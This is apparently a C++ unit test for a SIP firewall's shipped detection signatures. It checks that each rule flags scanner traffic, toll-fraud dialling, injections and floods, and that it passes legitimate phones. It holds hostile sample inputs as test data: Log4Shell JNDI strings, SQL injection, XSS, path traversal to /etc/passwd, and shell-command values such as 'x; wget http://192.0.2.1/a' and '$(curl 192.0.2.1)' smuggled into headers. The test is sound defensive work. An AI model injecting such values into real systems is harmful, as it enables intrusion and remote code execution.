// shipped_signatures_test.cpp — every rule of rules/sip.rules takes what it is for, and no legal message.
#include <gtest/gtest.h>

#include <set>

#include "mgmt/config/load_signatures.h"
#include "policy/signatures/rule_file.h"
#include "sipalg/engine/signature_view.h"
#include "tests/support/message_builder.h"

namespace sallyport::mgmt {
namespace {

using B = tests::MessageBuilder;

std::string agent(std::string_view name) {
  return B("OPTIONS").line("User-Agent: " + std::string(name)).build();
}
std::string invite(std::string_view uri) { return B("INVITE").uri(uri).build(); }
std::string from(std::string_view value) { return B("OPTIONS").from(value).build(); }
std::string with(std::string_view line) { return B("NOTIFY").line(line).build(); }
std::string answer(std::string_view status) {
  return "SIP/2.0 " + std::string(status) +
         "\r\nVia: SIP/2.0/UDP 198.18.1.1;branch=z9hG4bKa\r\nFrom: <sip:a@b.test>;tag=1\r\n"
         "To: <sip:c@d.test>;tag=2\r\nCall-ID: 1\r\nCSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n";
}
std::string summary(int accounts) {
  std::string text = "Messages-Waiting: yes\r\n";
  for (int i = 0; i < accounts; ++i) text += "Message-Account: sip:a@b.test\r\n";
  return B("NOTIFY").body("application/simple-message-summary", text).build();
}

struct RuleCase {
  std::uint32_t sid;
  std::vector<std::string> taken;   // each of them
  std::vector<std::string> passed;  // legal ones that come near
  int passes = 0;                   // so often it may come from one source
};

// Agents that say who they are in the same words at another place.
RuleCase scanner(std::uint32_t sid, std::vector<std::string> names, std::vector<std::string> others) {
  RuleCase out{sid, {}, {}};
  for (const std::string& name : names) out.taken.push_back(agent(name));
  for (const std::string& name : others) out.passed.push_back(agent(name));
  return out;
}

std::vector<RuleCase> scanners() {
  return {
      scanner(5060001, {"friendly-scanner", "Friendly-Scanner/0.1"}, {"friendly", "Friendly Phone 2"}),
      scanner(5060002, {"SIPVicious", "sipvicious 0.3"}, {"Vicious", "SIP Virtual PBX"}),
      scanner(5060003, {"sipcli/v1.8", "SIPCLI"}, {"SIP Client 2", "my-sipclient"}),
      scanner(5060004, {"sundayddr"}, {"Sunday", "Sundial PBX"}),
      scanner(5060005, {"pplsip"}, {"pp-sip", "AppleSIP"}),
      scanner(5060006, {"VaxSIPUserAgent/3.5"}, {"SIPUserAgent", "Vax Phone"}),
      scanner(5060007, {"sip-scan", "sipscan 1", "SIPScanner"}, {"SIP Scandinavia PBX", "sipscandal"}),
      scanner(5060008, {"smap 0.6", "SMAP"}, {"smaphone", "Smapi"}),
      scanner(5060009, {"iWar", "iwar/0.07"}, {"iWarehouse", "AiWar"}),
      scanner(5060010, {"SIVuS_VoIP_Scanner"}, {"SIVU", "PBX sivus"}),
      scanner(5060011, {"SIP Army Knife", "siparmyknife"}, {"SIP Knife", "Swiss Army PBX"}),
      scanner(5060012, {"SipFlanker"}, {"SIP Flank", "Flanker"}),
      scanner(5060013, {"sipbrute", "SIP-cracker", "sip_vulnerability"}, {"SIP Browser", "SIP Phone"}),
      {5060014,
       {B("OPTIONS").uri("sip:nm").from("<sip:nm@nm>;tag=root").to("<sip:nm2@nm2>").build()},
       {from("<sip:nm@nmbs.test>;tag=1"), from("\"nm\" <sip:an@nm.test>;tag=1")}},
      {5060015,
       {from("\"sipvicious\"<sip:100@192.0.2.1>;tag=6435"), from("\"SIPVicious\" <sip:a@b.test>;tag=1")},
       {from("\"Sip Vicious\" <sip:sid@b.test>;tag=1"), from("<sip:vicious@b.test>;tag=1")}},
      {5060016,
       {B("OPTIONS").from("\"x\"<sip:100@1.1.1.1>;tag=1").to("\"x\"<sip:100@1.1.1.1>").build()},
       {B("OPTIONS").to("<sip:100@1.1.1.1>").build(), from("<sip:100@1.1.1.10>;tag=1")}},
      scanner(5060020, {"sipsak 0.9.7"}, {"SIP Saks", "a sipsak"}),
      scanner(5060021, {"SIPp", "sipp/3.6"}, {"SIPphone", "SippySoft"}),
      scanner(5060022, {"python-requests/2.28", "curl/7.88"}, {"Curly Phone", "PythonSIP"}),
  };
}

std::vector<RuleCase> numbers() {
  return {
      {5060101,
       {invite("sip:000972592577956@198.18.1.1"), invite("sip:9011442037691880@198.18.1.1"),
        invite("sip:90000442037691880@198.18.1.1"), invite("sip:9*00442037691880@198.18.1.1")},
       {invite("sip:00442037691880@198.18.1.1"), invite("sip:+442037691880@198.18.1.1"),
        invite("sip:011442037691880@198.18.1.1"), invite("sip:1000@198.18.1.1"),
        invite("sip:9000@198.18.1.1"), invite("sip:08001234567@198.18.1.1"),
        B("REGISTER").uri("sip:000972592577956@b.test").build()}},
      {5060102, {invite("sip:442037691880@198.18.1.1")}, {invite("sip:1000@198.18.1.1")}, 30},
  };
}

std::vector<RuleCase> injections() {
  return {
      {5060201,
       {agent("${jndi:ldap://192.0.2.1/a}"), from("\"${JNDI:dns://a}\" <sip:a@b.test>;tag=1")},
       {agent("jndi: the Java look-up"), agent("$jndi")}},
      {5060202,
       {agent("${${lower:j}ndi:x}"), agent("${lower:j}${lower:n}")},
       {agent("costs ${price}"), agent("${date:now}")}},
      {5060203,
       {from("\"<script>alert(1)</script>\" <sip:a@b.test>;tag=1")},
       {from("\"script\" <sip:a@b.test>;tag=1")}},
      {5060204,
       {B("OPTIONS").to("\"<SCRIPT src=x>\" <sip:a@b.test>").build()},
       {B("OPTIONS").to("\"Manuscripts\" <sip:a@b.test>").build()}},
      {5060205, {agent("<script>x</script>")}, {agent("Phone <b>"), agent("scripted")}},
      {5060206,
       {agent("x' OR '1'='1"), agent("a' union select 1"), agent("a; drop table users")},
       {agent("Student Union Phone"), agent("O'Reilly or O'Hara"), agent("Selects; Updates 1.2")}},
      {5060207,
       {from("\"' or '1'='1\" <sip:a@b.test>;tag=1"), from("\"x' UNION ALL SELECT 1\" <sip:a@b.test>;tag=1")},
       {from("\"Conan O'Brien\" <sip:a@b.test>;tag=1"), from("\"Shop 'n' Drop\" <sip:a@b.test>;tag=1"),
        from("\"European Union\" <sip:a@b.test>;tag=1")}},
      {5060208,
       {invite("sip:a'%20or%201=1@b.test"), invite("sip:1'or+'1@b.test"),
        invite("sip:a%20union%20select%201@b.test")},
       {invite("sip:o'brien@b.test"), invite("sip:union@select.test"), invite("sip:a'oregon@b.test")}},
      {5060209,
       {B("REGISTER")
            .line("Authorization: Digest username=\"admin' or 1=1--\", realm=\"b\", nonce=\"n\", "
                  "uri=\"sip:b\", response=\"00000000000000000000000000000000\"")
            .build()},
       {B("REGISTER")
            .line("Authorization: Digest username=\"o'brien\", realm=\"b\", nonce=\"n\", uri=\"sip:b\", "
                  "response=\"00000000000000000000000000000000\"")
            .build(),
        B("REGISTER")
            .line("Authorization: Digest username=\"orland\", realm=\"b's\", nonce=\"n\", uri=\"sip:b\", "
                  "response=\"00000000000000000000000000000000\"")
            .build()}},
      {5060210,
       {agent("x; wget http://192.0.2.1/a"), agent("$(id)"), agent("a|/bin/sh")},
       {agent("SIP Phone (id 7)"), agent("R&D Phone"), agent("Phone; ncurses")}},
      {5060211,
       {from("\"$(curl 192.0.2.1)\" <sip:a@b.test>;tag=1"), from("\"x | bash\" <sip:a@b.test>;tag=1")},
       {from("\"Curl & Bash\" <sip:a@b.test>;tag=1"), from("\"Room | 12\" <sip:a@b.test>;tag=1")}},
      {5060212,
       {invite("sip:$(wget%20a)@b.test"), invite("sip:a%7c%20bash@b.test")},
       {invite("sip:wget@b.test"), invite("sip:$(100)@b.test")}},
      {5060213,
       {invite("sip:../../etc/passwd@b.test"), invite("sip:%2e%2e%2f%2e%2e%2fetc@b.test")},
       {invite("sip:a..b@b.test"), invite("sip:john./.doe@b.test")}},
      {5060214,
       {invite("sip:%25s%25s%25n%25n@b.test")},
       {invite("sip:100%25@b.test"), invite("sip:%25s@b.test")}},
      {5060215, {agent("%s%s%s%n")}, {agent("Phone 100%"), agent("50% simple, 20% new")}},
  };
}

std::vector<RuleCase> harmful() {
  const std::string many(220, 'a');
  return {
      {5060301,
       {B("OPTIONS").via("SIP/2.0/UDP 0.0.0.0:5060;branch=z9hG4bKz").build(),
        B("OPTIONS").via("SIP/2.0/TCP 0.0.0.0;branch=z9hG4bKz").build()},
       {B("OPTIONS").via("SIP/2.0/UDP 10.0.0.0:5060;branch=z9hG4bKz").build(),
        B("OPTIONS").via("SIP/2.0/UDP 192.0.2.1;branch=z9hG4bKz;received=0.0.0.0").build()}},
      {5060302,
       {B("OPTIONS").via("SIP/2.0/UDP 192.0.2.1;maddr=192.0.2.9;branch=z9hG4bKz").build()},
       {B("OPTIONS").via("SIP/2.0/UDP maddr.test;branch=z9hG4bKz").build()}},
      {5060303,
       {with("Alert-Info: <http://127.0.0.1:8088/a.wav>"),
        with("Call-Info: <https://localhost/x>;purpose=icon")},
       {with("Alert-Info: <http://www.example.net/bell.wav>"),
        with("Call-Info: <http://10.0.0.1/x.png>;purpose=icon"), with("Subject: see <http://127.0.0.1/>")}},
      {5060304,
       {with("Alert-Info: <file:///etc/passwd>"), with("Refer-To: <gopher://a/>;file:")},
       {with("Alert-Info: <http://www.example.net/file:1.wav>"), with("Subject: file: 12")}},
      {5060305, {summary(4)}, {summary(1), summary(3)}},
      {5060306, {agent(std::string(301, 'x'))}, {agent(std::string(300, 'x'))}},
      {5060307, {invite("sip:" + many + "@b.test")}, {invite("sip:" + many.substr(0, 100) + "@b.test")}},
      {5060308,
       {from("<sip:" + many + "@b.test>;tag=1")},
       {from("<sip:" + many.substr(0, 100) + "@b.test>;tag=1")}},
      {5060309,
       {B("MESSAGE").body("text/plain", "POST /a HTTP/1.1\r\nHost: b\r\n").build()},
       {B("MESSAGE").body("text/plain", "I said GET / HTTP/1.1 and it worked").build()}},
  };
}

std::vector<RuleCase> floods() {
  return {
      {5060401, {invite("sip:1000@b.test")}, {agent("Phone")}, 200},
      {5060402, {invite("sip:1001@b.test")}, {agent("Phone")}, 100},
      {5060403, {B("REGISTER").build()}, {agent("Phone")}, 3000},
      {5060404, {B("OPTIONS").build()}, {invite("sip:1@b.test")}, 1000},
      {5060405, {B("SUBSCRIBE").build()}, {agent("Phone")}, 3000},
      {5060406, {B("MESSAGE").build()}, {agent("Phone")}, 100},
      {5060407, {answer("486 Busy Here")}, {agent("Phone")}, 1000},
      {5060501, {B("BYE").build()}, {agent("Phone")}, 300},
      {5060502, {B("BYE").uri("sip:token@b.test").build()}, {agent("Phone")}, 30},
      {5060503, {B("CANCEL").build()}, {agent("Phone")}, 300},
      {5060504, {B("CANCEL").uri("sip:token@b.test").build()}, {agent("Phone")}, 30},
      {5060505, {answer("302 Moved Temporarily")}, {answer("486 Busy Here"), answer("200 OK")}, 30},
  };
}

std::vector<RuleCase> all_cases() {
  std::vector<RuleCase> all;
  for (auto* const part : {&scanners, &numbers, &injections, &harmful, &floods})
    for (RuleCase& one : part()) all.push_back(std::move(one));
  return all;
}

// What honest devices send.
std::vector<std::string> legal_messages() {
  std::vector<std::string> out;
  for (const char* name : {"Yealink SIP-T46S 66.86.0.15",
                           "Grandstream GXP2170 1.0.11.64",
                           "snom821/8.9.3.80",
                           "Linphone/5.1 (belle-sip/5.2)",
                           "Asterisk PBX 18.10.0",
                           "FPBX-16.0.40(18.9)",
                           "FreeSWITCH-mod_sofia/1.10.9",
                           "Cisco-CP8841/14.2",
                           "PolycomVVX-VVX_411-UA/6.4.3",
                           "Bria 6 release 6.5.2",
                           "MicroSIP/3.21.3",
                           "Zoiper rv2.10.19.5",
                           "Z 5.6.1 v2.10.19.9",
                           "baresip v1.0.0 (x86_64/linux)",
                           "AVM FRITZ!Box 7590 154.07.57 TAL",
                           "LANCOM 1793VA (over ISDN) / 10.72",
                           "Sipura/SPA2102-5.2.13",
                           "3CXPhoneSystem 18.0",
                           "Twilio Gateway",
                           "Microsoft.PSTNHub.SIPProxy v.2023",
                           "kamailio (5.6.3 (x86_64/linux))",
                           "PortSIP UC Client",
                           "X-Lite 5.8",
                           "Ekiga/4.0.1",
                           "eyeBeam release 1102q",
                           "Mitel-5330-SIP-Phone",
                           "Avaya one-X Deskphone",
                           "Obihai/OBi202-3.2.2"})
    for (const char* method : {"REGISTER", "INVITE", "OPTIONS", "SUBSCRIBE"})
      out.push_back(B(method).line("User-Agent: " + std::string(name)).build());
  for (const char* name :
       {"\"O'Connor, Sean\"", "\"M\xc3\xbcller & S\xc3\xb6hne GmbH\"", "\"Select Hotels; Union Square\"",
        "\"<unknown>\"", "Anonymous", "\"50% off\"", "\"$100 Shop\"", "\"C|Net\"", "\"a && b\""})
    out.push_back(from(std::string(name) + " <sip:+4930123456@b.test>;tag=1"));
  for (const char* uri :
       {"sip:+442037691880@b.test;user=phone", "tel:+1-212-555-0100", "sip:911@b.test",
        "sip:00442037691880@b.test", "sip:0118999@b.test", "sips:a%40b.test@c.test", "sip:*98@b.test",
        "sip:%2398@b.test", "sip:+4930;ext=12@b.test;transport=tcp", "sip:[2001:db8::1]:5060"})
    out.push_back(invite(uri));
  out.push_back(B("INVITE")
                    .body("application/sdp",
                          "v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=-\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\n"
                          "m=audio 4000 RTP/AVP 0 8 101\r\na=rtpmap:101 telephone-event/8000\r\n")
                    .build());
  out.push_back(with("Alert-Info: <urn:alert:source:internal>"));
  out.push_back(with("Call-Info: <https://www.example.net/a.png>;purpose=icon"));
  return out;
}

class ShippedSignatures : public ::testing::Test {
 protected:
  ShippedSignatures() {
    policy::RuleFile file = policy::parse_rule_file(shipped_signatures());
    for (const policy::RuleProblem& problem : file.problems)
      ADD_FAILURE() << problem.line << ": " << problem.what;
    std::vector<policy::SignatureSource> sources(1);
    sources[0].signatures = std::move(file.signatures);
    std::vector<policy::SourceProblem> problems;
    set = policy::SignatureSet::compile(std::move(sources), problems);
    for (const policy::SourceProblem& one : problems)
      ADD_FAILURE() << one.problem.line << ": " << one.problem.what;
    begin_anew();
  }
  void begin_anew() { now += 1h; }

  // The sid of the rule that decides; 0: none.
  std::uint32_t sid_for(const std::string& bytes) {
    sip::MessageInput input;
    input.local = *parse_endpoint("198.18.1.1:5060", 0);
    input.remote = *parse_endpoint("192.0.2.7:5060", 0);
    input.bytes = bytes;
    EXPECT_EQ(sip::parse_message(bytes, {}, message), sip::ParseStatus::Complete) << bytes;
    const policy::SignatureVerdict verdict = scanner.scan(now, view.look_at(input, message));
    return verdict.rule == nullptr ? 0 : verdict.rule->signature.sid;
  }
  std::uint64_t matches_of(std::uint32_t sid) const {
    for (std::size_t i = 0; i < set->rules().size(); ++i)
      if (set->rules()[i].signature.sid == sid) return set->counts(i).matches.load();
    ADD_FAILURE() << "no rule has sid " << sid;
    return 0;
  }

  SharedValue<policy::SignatureSet> set;
  policy::SignatureScanner scanner{HashKey{1, 2}};
  sip::SignatureView view;
  sip::SipMessage message;
  Timestamp now{};
};

TEST_F(ShippedSignatures, EachRuleTakesWhatItIsFor) {
  scanner.adopt(set);
  for (const RuleCase& one : all_cases()) {
    begin_anew();
    for (const std::string& bytes : one.taken) {
      const std::uint64_t before = matches_of(one.sid);
      for (int i = 0; i < one.passes; ++i) (void)sid_for(bytes);
      EXPECT_EQ(matches_of(one.sid), before) << one.sid;
      (void)sid_for(bytes);
      EXPECT_EQ(matches_of(one.sid), before + 1) << one.sid << "\n" << bytes;
    }
  }
}

TEST_F(ShippedSignatures, LegalMessagesThatComeNearPass) {
  scanner.adopt(set);
  for (const RuleCase& one : all_cases()) {
    EXPECT_FALSE(one.taken.empty() || one.passed.empty()) << one.sid;
    for (const std::string& bytes : one.passed) {
      begin_anew();
      EXPECT_EQ(sid_for(bytes), 0u) << "near " << one.sid << "\n" << bytes;
    }
  }
}

TEST_F(ShippedSignatures, EachRuleHasACase) {
  std::set<std::uint32_t> shown;
  for (const RuleCase& one : all_cases()) shown.insert(one.sid);
  for (const policy::SignatureRule& rule : set->rules()) {
    EXPECT_TRUE(shown.contains(rule.signature.sid)) << rule.signature.sid;
    EXPECT_TRUE(rule.signature.sid >= 5060000 && rule.signature.sid <= 5060999);
    EXPECT_FALSE(rule.signature.msg.empty() || rule.signature.classtype.empty()) << rule.signature.sid;
  }
  EXPECT_EQ(shown.size(), set->rules().size());
}

TEST_F(ShippedSignatures, NoRuleTakesWhatHonestDevicesSend) {
  scanner.adopt(set);
  for (const std::string& bytes : legal_messages()) {
    begin_anew();
    EXPECT_EQ(sid_for(bytes), 0u) << bytes;
  }
}

// After a power cut: each registers, with a challenge, subscribes and asks, within ten seconds.
TEST_F(ShippedSignatures, TwoHundredPhonesBehindOneAddressPass) {
  scanner.adopt(set);
  for (int phone = 0; phone < 200; ++phone) {
    now += 40ms;
    const std::string from_phone = "<sip:" + std::to_string(1000 + phone) + "@b.test>;tag=1";
    for (const char* method : {"REGISTER", "REGISTER", "SUBSCRIBE", "SUBSCRIBE", "OPTIONS", "PUBLISH"})
      EXPECT_EQ(sid_for(B(method).from(from_phone).line("User-Agent: Yealink SIP-T46S 66.86.0.15").build()),
                0u);
    EXPECT_EQ(
        sid_for(B("INVITE").from(from_phone).uri("sip:" + std::to_string(2000 + phone) + "@b.test").build()),
        0u);
  }
}

}  // namespace
}  // namespace sallyport::mgmt
